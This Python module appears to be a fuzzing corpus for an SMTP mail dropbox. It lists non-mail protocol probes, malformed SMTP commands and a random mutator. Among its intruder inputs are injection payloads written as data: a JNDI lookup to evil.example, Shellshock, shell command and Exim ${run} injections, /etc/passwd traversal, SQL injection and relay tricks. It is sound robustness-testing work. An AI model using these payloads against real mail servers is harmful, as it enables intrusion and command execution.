"""What has been said to mail servers on the open internet by others than mail servers.

Each entry is all that is sent in one connection. `{to}` is a dropbox address that exists. Text,
names and addresses are invented.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

HELLO = b"EHLO client.example\r\n"
FROM = b"MAIL FROM:<ann@customer.example>\r\n"
TO = b"RCPT TO:<{to}>\r\n"
ENVELOPE = HELLO + FROM + TO
MAIL = b"From: ann@customer.example\r\nTo: bob@customer.example\r\nSubject: Hello\r\n\r\nHello\r\n"
END = b".\r\n"
QUIT = b"QUIT\r\n"

OTHER_PROTOCOLS = {
    "HTTP": b"GET / HTTP/1.1\r\nHost: mx.example\r\nUser-Agent: x\r\n\r\n",
    "HTTP/1.0": b"GET / HTTP/1.0\r\n\r\n",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9),
    "HTTP, a form that speaks SMTP": b"POST /x HTTP/1.1\r\nContent-Length: 99\r\n\r\n" + ENVELOPE,
    "HTTP, lower case": b"get / http/1.1\r\n\r\n" + ENVELOPE + b"DATA\r\n" + MAIL + END,
    "HTTP, a proxy": b"CONNECT mx.example:25 HTTP/1.1\r\n\r\n",
    "HTTP, bare LF": b"GET / HTTP/1.1\nHost: x\n\n",
    "TLS": bytes.fromhex("16030102000100 01fc0303") + bytes(64),
    "TLS, a heartbeat": bytes.fromhex("1803020003014000"),
    "SSL 2": bytes.fromhex("802e0100020015000000100100800200800300800400800500800600"),
    "SSH": b"SSH-2.0-x_1.0\r\n" + bytes.fromhex("0000002c0614") + bytes(40),
    "Telnet": b"\xff\xfb\x01\xff\xfd\x03\xff\xfc\x1f\r\n",
    "FTP": b"USER anonymous\r\nPASS x@y.example\r\nPORT 127,0,0,1,0,25\r\n",
    "POP3": b"USER hanako\r\nPASS secret\r\nSTAT\r\n",
    "IMAP": b'a1 LOGIN hanako secret\r\na2 LIST "" "*"\r\n',
    "ManageSieve": b'AUTHENTICATE "PLAIN" "AGEAYg=="\r\n',
    "NNTP": b"MODE READER\r\nARTICLE <1@x.example>\r\n",
    "IRC": b"NICK x\r\nUSER x 0 * :x\r\nJOIN #x\r\n",
    "SIP": b"OPTIONS sip:x SIP/2.0\r\nVia: SIP/2.0/TCP x\r\nCall-ID: 1\r\n\r\n",
    "RTSP": b"DESCRIBE rtsp://x/ RTSP/1.0\r\nCSeq: 1\r\n\r\n",
    "Redis": b"*1\r\n$4\r\nPING\r\n*2\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n",
    "Memcached": b"stats\r\nset x 0 0 1\r\n1\r\n",
    "Postgres": bytes.fromhex("0000000804d2162f"),
    "MySQL": bytes.fromhex("2000000185a23f0000000001080000") + bytes(20),
    "LDAP": bytes.fromhex("300c020101600702010304008000"),
    "SMB": b"\x00\x00\x00\x54\xffSMBr" + bytes(40),
    "RDP": bytes.fromhex("0300001302e00000000000010008000b000000"),
    "SOCKS 4": bytes.fromhex("04010019c0000201") + b"x\x00",
    "SOCKS 5": bytes.fromhex("050200020501000300"),
    "VNC": b"RFB 003.008\n",
    "DNS": bytes.fromhex("001e000010000001000000000000076578616d706c6503636f6d0000100001"),
    "MQTT": bytes.fromhex("101000044d5154540402003c000474657374"),
    "BitTorrent": b"\x13BitTorrent protocol" + bytes(48),
    "Java": b"JRMI\x00\x02K",
    "a debugger": b"JDWP-Handshake",
    "a printer": b"\x1b%-12345X@PJL INFO ID\r\n",
    "X11": bytes.fromhex("6c000b000000000000000000"),
    "PROXY at a port without": b"PROXY TCP4 203.0.113.9 192.0.2.1 4711 25\r\n" + ENVELOPE,
    "PROXY v2 at a port without": bytes.fromhex("0d0a0d0a000d0a515549540a2000000000") + ENVELOPE,
    "QUIC": bytes.fromhex("c00000000108") + bytes(30),
    "a scanner's questions": b"\r\n\r\nHELP\r\n\x00\x00\r\n/\r\n?\r\nversion\r\n",
}

INTRUDERS = [
    *(b"EHLO " + one + b"\r\n" + FROM + TO for one in (
        b"${jndi:ldap://evil.example/a}", b"() { :; }; /bin/id", b"`id`", b"%n%n%s%x",
        b"' or 1=1--",
        b"../../../etc/passwd", b"<script>alert(1)</script>", b"\x1b[31mred\x1b[0m", b"a" * 2000,
        b"[127.0.0.1]", b"[IPv6:::1]", b"[999.999.999.999]", b"localhost", b"dropbox.example",
        b"mx mx mx", "例え.jp".encode(), b"\xff\xfe", b"\x00", b".", b"-", b"[", b"]" * 300,
        b"me\tyou", b"me\rMAIL FROM:<>", b"xn--", b"a..b", b"%00", b"{to}",
    )),
    *(HELLO + b"MAIL FROM:" + one + b"\r\n" + TO for one in (
        b"<;sleep 1;>", b"<|/bin/id>", b"|/bin/sh", b"</etc/passwd>", b"<root@localhost>", b"<@>",
        b"<a@>", b"<@a>", b"<<a@b.example>>", b"<a@b.example", b"a@b.example>", b"<a b@c.example>",
        b"<a@b.example> <c@d.example>", b"<${run{id}}@b.example>", b"<`id`@b.example>", b"<>>",
        b"<a@[IPv6:2001:db8::1]>", b"<a@[192.0.2.1]>", b"<a@[]>", b"<a@[x]>", b"<a%b@c.example>",
        b"<a!b!c@d.example>", b"<@x.example,@y.example:a@b.example>", b"<@x:@y:@z:a>",
        b'<"a\\"b"@c.example>', b'<"">', b'<""@b.example>', b'<"\\>', b'<"a', b"<a@b.example\\>",
        b"<(comment)a@b.example>", b"<a(" + b"(" * 900 + b"@b.example>", b"<g:a@b.example;>",
        b"<" + b"a" * 1900 + b"@b.example>", b"<a@" + b"b." * 900 + b"example>", b"<'--@b.example>",
        "<鈴木@例え.jp> SMTPUTF8".encode(), b"<\xff@b.example>", b"<a@\xed\xa0\x80.example>",
        b"<a@b.example> SIZE=9999999999", b"<a@b.example> SIZE=-1", b"<a@b.example> BODY=X",
        b"<a@b.example> AUTH=<>", b"<a@b.example> RET=FULL ENVID=x", b"<a@b.example> HOLDFOR=1",
        b"<a@b.example> X=" + b"y" * 1900, b"<a@b.example>" + b" A" * 900, b"<a@b.example> =",
        b"<a@b.example> MT-PRIORITY=9", b"<a@b.example> REQUIRETLS", b"<a@b.example> BY=1;R",
        b"", b" ", b":", b"<", b">", b"\x00", b"<\r>", b"<\\>", b"<.@.>", b"<..>", b"{to}",
        b"<\\@b.example>", b"<,@b.example>", b"<;@b.example>", b'<"\\\\"@b.example>', b"<[>",
    )),
    *(HELLO + FROM + b"RCPT TO:" + one + b"\r\n" + TO for one in (
        b"<${run{/bin/id}}@localhost>", b'<"|id"@dropbox.example>', b"<|id>", b"</dev/null>",
        b"<root@dropbox.example>", b"<postmaster@evil.example>", b"<postmaster@>", b"<Postmaster",
        b'<"postmaster"@dropbox.example>', b"<postmaster@[127.0.0.1]>", b"<@evil:{to}>",
        b"<{to}%evil.example@dropbox.example>", b"<evil.example!{to}>", b"<{to}\x00>", b"<{to}\r>",
        b"<{to}>\x00", b"<{to}> NOTIFY=NEVER", b"<{to}> ORCPT=rfc822;x", b"{to}", b"<{to}", b"<>",
        b'<"{to}">', b"<'{to}'>", b"<{to}.>", b"<{to}..>", b"<+{to}>",
        b"<hanako.@dropbox.example>",
        b"<hanako.aaaaaaaaaaaaaaaa+{to}>", b"<.aaaaaaaaaaaaaaaa@dropbox.example>", b"<{to}{to}>",
        b"<hanako.' or '1'='1@dropbox.example>", b"<hanako.%@dropbox.example>", b"<%@%>", b"<*@*>",
        b"<hanako._______________@dropbox.example>", b"<" + b"a" * 1900 + b"@dropbox.example>",
        "<ｈａｎａｋｏ.ａａａａａａａａａａａａａａａａ@dropbox.example>".encode(), b"<{to}, {to}>",
        "<hanako.aaaaaaaaaaaaaaaa@ｄｒｏｐｂｏｘ.example>".encode(), b"<{to} >", b"< {to}>",
        b"<(x){to}>",
        b"<hanako.aaaaaaaaaaaaaaaa@DROPBOX.EXAMPLE.>",
        b"<hanako.aaaaaaaaaaaaaaaa@dropbox.example..>",
    )),
]  # fmt: skip

VERBS = [
    *(HELLO + one + b"\r\nNOOP\r\n" for one in (
        b"VRFY root", b"VRFY {to}", b"EXPN staff", b"HELP", b"HELP MAIL", b"DEBUG", b"WIZ",
        b"SHOWQ",
        b"TURN", b"ETRN dropbox.example", b"ATRN", b"SEND FROM:<a@b.example>", b"SOML FROM:<a@b>",
        b"SAML FROM:<a@b.example>", b"AUTH", b"AUTH LOGIN", b"AUTH PLAIN AGEAYg==",
        b"AUTH CRAM-MD5",
        b"AUTH LOGIN aGFuYWtv\r\nc2VjcmV0", b"AUTH NTLM TlRMTVNTUAABAAAA",
        b"AUTH XOAUTH2 " + b"=" * 900,
        b"XCLIENT ADDR=127.0.0.1 NAME=localhost", b"XFORWARD NAME=x ADDR=127.0.0.1", b"XEXCH50 1 2",
        b"X-EXPS NTLM", b"X-LINK2STATE LAST CHUNK={}", b"BURL imap://x LAST", b"BDAT 3 LAST\r\nabc",
        b"BDAT 3\r\nabcBDAT 0 LAST", b"STARTTLS", b"STARTTLS x", b"LHLO me", b"EHLO", b"HELO",
        b"QUIT x",
        b"RSET x", b"DATA", b"DATA x", b"MAIL", b"RCPT", b"MAIL FROM", b"RCPT TO",
        b"NOOP " + b"x" * 1900,
        b"noop", b"NoOp\t", b"NOOP\r", b"\tNOOP", b" NOOP", b"NOOP\x00", b"\x00",
        b"\xff" * 99, b"EHLO\xa0me",
        "ＮＯＯＰ".encode(), b".", b"..", b"x" * 3000, b"x" * 70_000, b"\r\r\r", b"\n\n\n",
        b"MAIL\nFROM:<>",
        b"QUIT\nNOOP", b"\x08\x08\x08NOOP", b"\xef\xbb\xbfNOOP", b"354 End data", b"250 OK",
        b"421 bye",
    )),
    HELLO + b"NOOP\r\n" * 150,
    HELLO * 150,
    HELLO + b"RSET\r\n" * 150,
    HELLO + b"FOO\r\n" * 50,
    b"\r\n" * 200,
    b"\n" * 200,
    b"\x00" * 5000,
    HELLO + FROM + b"RCPT TO:<guess@dropbox.example>\r\n" * 50,
    HELLO
    + FROM
    + b"".join(b"RCPT TO:<u%d.aaaaaaaaaaaaaaaa@dropbox.example>\r\n" % n for n in range(30)),
    HELLO + FROM + TO * 300 + QUIT,
    HELLO + FROM * 30,
    HELLO + (FROM + b"RSET\r\n") * 120,
    HELLO + b"VRFY x\r\n" * 30,
    HELLO + b"AUTH LOGIN\r\naGFuYWtv\r\nc2VjcmV0\r\n" * 20,
    ENVELOPE + b"EHLO again\r\nDATA\r\n" + MAIL + END,
    ENVELOPE + b"HELO again\r\n" + FROM + TO + b"DATA\r\n",
    b"MAIL FROM:<>\r\nRCPT TO:<{to}>\r\nDATA\r\n" + MAIL + END,
    HELLO + TO + b"DATA\r\n" + MAIL + END,
    HELLO + b"DATA\r\n" + MAIL + END,
    HELLO + FROM + b"DATA\r\n" + MAIL + END,
    b"HELO me\r\nMAIL FROM:<a@b.example> SIZE=5\r\n",
    b"EHLO",
    b"E",
    b"",
]  # fmt: skip


def carried(mail: bytes) -> bytes:
    """A connection that sends this mail as it should be sent, its dots apart."""
    return ENVELOPE + b"DATA\r\n" + mail + b"\r\n" + END + QUIT


CUT_OFF = [
    ENVELOPE + b"DATA\r\n",
    ENVELOPE + b"DATA\r\n" + MAIL,
    ENVELOPE + b"DATA\r\n" + MAIL + b".",
    ENVELOPE + b"DATA\r\n" + MAIL + b".\r",
    ENVELOPE + b"DATA\r\n.\r\n",
    ENVELOPE + b"DATA\r\n.\r\n.\r\n.\r\n",
    ENVELOPE + b"DATA\r\n..\r\n..\r\n.\r\n" + QUIT,
    ENVELOPE + b"DATA\r\n" + b"x" * 300_000,
    carried(MAIL) + ENVELOPE,
    (ENVELOPE + b"DATA\r\n" + MAIL + END) * 3 + QUIT,
    HELLO
    + b"MAIL FROM:<>\r\n"
    + TO
    + b"RCPT TO:<no@dropbox.example>\r\nDATA\r\n"
    + MAIL
    + END
    + QUIT,
    HELLO + b"MAIL FROM:<>\r\nRCPT TO:<postmaster>\r\nDATA\r\n" + MAIL + END + QUIT,
]

CORPUS: list[bytes] = [*OTHER_PROTOCOLS.values(), *INTRUDERS, *VERBS, *CUT_OFF]

_TOKENS = [
    b"\r\n", b"\n", b"\r", b"\x00", b"\r\n.\r\n", b"\n.\n", b".", b" ", b"<", b">", b"@",
    b":", b'"',
    b"\\", b"(", b"\xff", b"\xe3\x81", b"A" * 600, b"{to}", b"DATA\r\n", b"RSET\r\n", b"QUIT\r\n",
    b"BDAT 3 LAST\r\nabc", b"MAIL FROM:<>\r\n", b"RCPT TO:<{to}>\r\n", b"EHLO x\r\n",
    b"STARTTLS\r\n",
    b" SIZE=1", b" BODY=8BITMIME", b" SMTPUTF8", b"=", b"\t", b"\x1b", b"0", b"9" * 30,
]  # fmt: skip

_SMALL_BYTES = 2_500
"""What is larger is large for its own sake."""


def mutated(source: random.Random, seeds: list[bytes]) -> bytes:
    """Return one of the seeds with a few changes, or two of them in one."""
    said = bytearray(source.choice(seeds))
    for _ in range(source.randint(1, 4)):
        at = source.randint(0, len(said))
        match source.randint(0, 5):
            case 0:
                said[at:at] = source.choice(_TOKENS)
            case 1:
                del said[at : at + source.randint(1, 8)]
            case 2:
                said[at : at + 1] = bytes([source.randint(0, 255)])
            case 3:
                del said[at:]
            case 4:
                said[at:at] = source.choice(seeds)[: source.randint(1, 400)]
            case 5:
                lines = bytes(said).split(b"\r\n")
                source.shuffle(lines)
                said = bytearray(b"\r\n".join(lines))
    return bytes(said)


def without_end(source: random.Random, mails: list[bytes]) -> Iterator[bytes]:
    """Yield the whole corpus, and then mutations of it for ever."""
    seeds = [*CORPUS, *map(carried, mails)]
    yield from seeds
    small = [one for one in seeds if len(one) < _SMALL_BYTES]
    while True:
        yield mutated(source, small)
